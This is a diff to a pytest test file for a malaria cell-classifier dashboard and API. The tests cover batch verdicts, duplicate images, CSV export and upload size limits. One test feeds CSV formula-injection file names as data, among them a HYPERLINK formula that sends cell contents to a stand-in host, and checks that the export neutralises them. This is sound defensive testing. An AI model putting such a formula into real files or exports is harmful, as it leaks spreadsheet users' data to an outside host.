@@ -241,10 +241,50 @@ def test_batch_summary_counts_decisions_share_and_verdict():
         "Not a cell": 1,
     }
     assert summary["parasitized_share"] == pytest.approx(2 / 4)  # Not a cell is no cell
-    assert summary["verdict"] == {"verdict": "positive", "confidence": pytest.approx(0.95)}
+    verdict = summary["verdict"]
+    assert (verdict["verdict"], verdict["confidence"]) == ("positive", pytest.approx(0.95))
+    assert (verdict["min_cells"], verdict["min_suspicious_cells"]) == (3, 2)
     negative = batch_summary(results[2:], rule)["verdict"]
     assert negative["verdict"] == "indeterminate"  # only 2 usable cells, fewer than 3
     assert batch_summary(results)["verdict"] is None  # no rule, no verdict
+    # No usable cell (failed files, non-cells): no patient verdict at all.
+    assert batch_summary(results[4:], rule)["verdict"] is None
+
+
+def test_a_picture_sent_twice_counts_once_in_the_cells_and_the_verdict(context):
+    from malaria_classifier.dashboard.components import summary_panel
+    from malaria_classifier.verdict import VerdictRule
+
+    cell = data_url(cell_png(True, 30))
+    pending = {"contents": [cell, cell, cell], "filenames": ["a/x.png", "copy.png", "x.png"]}
+    results = classify_pending(context, pending, False)
+    assert len({result["content_id"] for result in results}) == 1
+    assert len(results[0]["content_id"]) == 32
+    suspicious = [{**result, "probability": 0.99, "decision": "Parasitized"} for result in results]
+    rule = VerdictRule(cell_threshold=0.9, min_suspicious_cells=3, min_cells=2)
+    summary = batch_summary(suspicious, rule)
+    assert summary["files"] == 3 and summary["cells"] == 1 and summary["repeated_files"] == 2
+    assert summary["decisions"]["Parasitized"] == 3  # files, as on the cards
+    assert summary["verdict"]["verdict"] == "indeterminate"  # one picture is not three cells
+    text = json.dumps(summary_panel(summary).to_plotly_json(), default=str)
+    assert "2 files repeat the picture of another file" in text and "counts once" in text
+    other = {**suspicious[0], "content_id": "other", "filename": "y.png"}
+    assert batch_summary([suspicious[0], other], rule)["repeated_files"] == 0
+
+
+def test_the_verdict_says_why_in_words():
+    from malaria_classifier.dashboard.components import verdict_explanation
+
+    indeterminate = {"verdict": "indeterminate", "min_cells": 20, "min_suspicious_cells": 3}
+    text = verdict_explanation(1, indeterminate)
+    assert text.startswith("from 1 usable cell: too few to rule malaria out")
+    assert "at least 20" in text and "Upload more" in text and "confidence" not in text
+    positive = verdict_explanation(40, {"verdict": "positive", "min_suspicious_cells": 3})
+    assert "from 40 usable cells: at least 3 very suspicious cells" in positive
+    assert "weakest" in positive and "most suspicious" not in positive
+    negative = verdict_explanation(1200, {"verdict": "negative", "min_suspicious_cells": 1})
+    assert "from 1,200 usable cells: no very suspicious cell" in negative
+    assert "most suspicious" in negative and "weakest" not in negative
 
 
 def test_download_csv_has_the_columns_of_malaria_predict(context):
@@ -263,6 +303,19 @@ def test_download_csv_has_the_columns_of_malaria_predict(context):
     assert table[2][1] == "" and "b.png" in table[2][4]
     with pytest.raises(PreventUpdate):
         download_csv(None, results)
+
+
+def test_download_csv_keeps_spreadsheets_from_running_file_names_as_formulas(context):
+    names = ['=HYPERLINK("http://x.example/?"&A1,"click").png', "@SUM(1+1).png", "-2+3.png"]
+    pending = {
+        "contents": [data_url(cell_png(False, 6)), data_url(b"x"), data_url(cell_png(True, 2))],
+        "filenames": names,
+    }
+    results = classify_pending(context, pending, False)
+    table = list(csv.reader(io.StringIO(download_csv(1, results)["content"])))[1:]
+    assert [row[0] for row in table] == ["'" + name for name in names]
+    assert table[1][4].startswith("'@SUM(1+1).png: ")  # the error names the file first
+    assert results[0]["filename"] == names[0]  # cards and table show the name unchanged
 
 
 def test_classify_example_uses_the_gallery_index_only(context, tmp_path):
@@ -299,6 +352,7 @@ def test_layout_has_every_component_the_callbacks_use(app):
         ids.SHOW_WHY,
         ids.PROGRESS,
         ids.PROGRESS_TEXT,
+        ids.RESULTS_AREA,
         ids.RESULTS_STORE,
         ids.SUMMARY,
         ids.CARDS,
@@ -408,6 +462,24 @@ def test_api_refuses_oversized_requests_before_decoding(predictor, explainer):
     )
     assert response.status_code == 413
     assert "split the batch" in response.get_json()["error"]
+    assert response.get_json()["error"].startswith("The request is larger than 1,052,576 bytes.")
+    # Sent chunked, the size is never announced: the message cannot pretend to know why.
+    body = (
+        b'--x\r\nContent-Disposition: form-data; name="file"; filename="huge.png"\r\n\r\n'
+        + b"x" * 2_000_000
+        + b"\r\n--x--\r\n"
+    )
+    response = client.post(
+        "/api/predict",
+        input_stream=io.BytesIO(body),
+        headers={"Transfer-Encoding": "chunked", "Content-Type": "multipart/form-data; boundary=x"},
+        environ_overrides={"wsgi.input_terminated": True},
+    )
+    assert response.status_code == 413
+    assert (
+        "larger than 1,052,576 bytes or has more than 10 form fields"
+        in response.get_json()["error"]
+    )
     response = client.post(
         "/api/predict",
         data={"file": [(io.BytesIO(b"x" * 1500), "big.png")]},
@@ -596,6 +668,12 @@ def test_api_answers_wrong_methods_and_paths_in_json(app):
     assert "Use POST" in response.get_json()["error"]
     response = client.post("/api/predictions")
     assert response.status_code == 404 and "/api/predict" in response.get_json()["error"]
+    for path in ("/api", "/api/"):
+        response = client.get(path)
+        assert response.status_code == 404, path
+        assert "curl -F file=@cell.png http://localhost/api/predict" in response.get_json()["error"]
+    response = client.get("/api/predict", base_url="http://127.0.0.1:9123")
+    assert "http://127.0.0.1:9123/api/predict" in response.get_json()["error"]
 
 
 def test_api_answers_each_file_past_the_batch_limits(predictor, explainer):
